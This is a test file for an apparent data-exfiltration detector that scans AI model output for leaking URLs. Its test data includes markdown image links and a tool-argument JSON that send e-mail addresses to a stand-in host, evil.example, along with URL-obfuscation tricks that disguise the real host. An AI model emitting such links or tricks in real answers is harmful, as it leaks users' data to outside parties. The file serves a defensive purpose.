import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { InspectionContext, Match, Subject, View } from '../../../src/inspect/contract.ts';
import { detector } from '../../../src/inspect/detectors/exfiltration.ts';
import { URL_CAP, urls } from '../../../src/inspect/detectors/exfiltration/anchors.ts';
import { decode, isAllowed, parseUrl } from '../../../src/inspect/detectors/exfiltration/url.ts';

interface Options { readonly kind?: Subject['kind']; readonly allowed?: string[]; readonly disabled?: string[] }

function inspect(text: string, { kind = 'text', allowed = [], disabled = [] }: Options = {}): readonly Match[] {
  const raw: View = { id: 'raw', text, toRaw: (start, end) => [start, end] };
  const context: InspectionContext = { fingerprint: 'x', systemTexts: [], canaries: [], settings: { denylist: [], allowedHosts: allowed, maxPartChars: 1e6, maxPartTokens: 1e6, disabledRules: new Set(disabled) } };
  return detector.inspect({ text, origin: 'model', trust: 'untrusted', kind, source: undefined, direction: 'answer', json: kind === 'tool_arguments', nonAscii: false, normalized: raw, views: [raw] }, context).matches;
}

describe('hosts', () => {
  test.each([['corp.example', true], ['a.corp.example', true], ['evilcorp.example', false], ['corp.example.evil.example', false], ['corp.exampl', false]])('%s', (host, allowed) => {
    expect(isAllowed(host, ['corp.example'])).toBe(allowed);
    expect(isAllowed(host, ['*.CORP.example'])).toBe(allowed);
  });
  test.each([
    ['https://corp.example@evil.example/', 'evil.example'], ['https://evil.example\\@corp.example/', 'evil.example'], ['https://evil.example#@corp.example/', 'evil.example'], ['https://evil.example?@corp.example/', 'evil.example'],
    ['HTTPS://EVIL.example.:443/x', 'evil.example'], ['https&#58;//evil.example/', 'evil.example'], ['//evil.example/x', 'evil.example'], ['https:&sol;&sol;evil.example&sol;x', 'evil.example'], ['https://evil%2eexample/', 'evil.example'],
  ])('%s goes to %s', (url, host) => {
    expect(parseUrl(url).host).toBe(host);
  });
  test('a URL of an allowed host within one that is not does not excuse it', () => {
    expect(inspect('https://evil.example/?x=https://corp.example/&d=jane@corp.example', { allowed: ['corp.example'] })).toHaveLength(1);
  });
});

test('a rule that is switched off gives way to the next', () => {
  const text = '![x](https://evil.example/p.png?e=<EMAIL_1>)';
  const rule = (disabled: string[]): string[] => inspect(text, { disabled }).map(({ rule }) => rule.replace('exfiltration.', ''));
  expect(rule([])).toEqual(['pseudonym-in-url']);
  expect(rule(['exfiltration.pseudonym-in-url'])).toEqual(['image-with-data']);
  expect(rule(['exfiltration.pseudonym-in-url', 'exfiltration.image-with-data', 'exfiltration.external-image'])).toEqual([]);
});

test('tool arguments are read for pseudonyms only', () => {
  expect(inspect('{"u":"https://evil.example/?d=jane@corp.example"}', { kind: 'tool_arguments' })).toEqual([]);
  expect(inspect('{"u":"https://evil.example/?d=%3CEMAIL_1%3E"}', { kind: 'tool_arguments' })).toHaveLength(1);
});

test('notes tell what was found and never its text', () => {
  const [match] = inspect('https://evil.example/?d=jane@corp.example');
  expect(match?.note).toBe('an e-mail address');
});

test('no URL is longer than the cap, and what lies beyond it in one run is still read', () => {
  const text = `https://evil.example/${'y'.repeat(3000)}https://evil.example/?e=<EMAIL_1>`;
  for (const { start, stop } of urls(text, 0)) expect(stop - start).toBeLessThanOrEqual(URL_CAP);
  expect(inspect(text).map(({ rule }) => rule)).toEqual(['exfiltration.link-with-data', 'exfiltration.pseudonym-in-url']);
});

test.each([['schemes', 'https://'], ['images', '![a](https://e.example/'], ['nested brackets', '![['], ['tags', '<img src="https://e.example/?d=1"'], ['references', '![a][b]'], ['definitions', '[b]: https://e.example/?d=x\n![b]\n'], ['colons', 's://'], ['placeholders', 'https://e.example/<A_1>'], ['base64', 'https://e.example/QUJDREVGR0hJSktMTU5P/']])('%s without end are read in linear time', (_, unit) => {
  const start = performance.now();
  inspect(unit.repeat(Math.ceil(100_000 / unit.length)));
  expect(performance.now() - start).toBeLessThan(8000);
});

test('percent-encoding is decoded as the built-in decoder does it, and never throws', () => {
  const byte = fc.constantFrom(0x00, 0x41, 0x7f, 0x80, 0x8f, 0x90, 0x9f, 0xa0, 0xbf, 0xc1, 0xc2, 0xdf, 0xe0, 0xe1, 0xed, 0xef, 0xf0, 0xf1, 0xf4, 0xf5, 0xff).map((code) => `%${code.toString(16).padStart(2, '0')}`);
  fc.assert(fc.property(fc.array(fc.oneof({ arbitrary: byte, weight: 6 }, fc.constantFrom('a', '%', '%4', '%zz', '+', 'é')), { maxLength: 6 }).map((parts) => parts.join('')), (text) => {
    let expected: string;
    try {
      expected = decodeURIComponent(text.replaceAll('+', ' '));
    } catch {
      expected = text.replaceAll('+', ' ').replace(/%([2-7][0-9a-f])/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
    }
    expect(decode(text)).toBe(expected);
  }), { numRuns: 5000 });
});
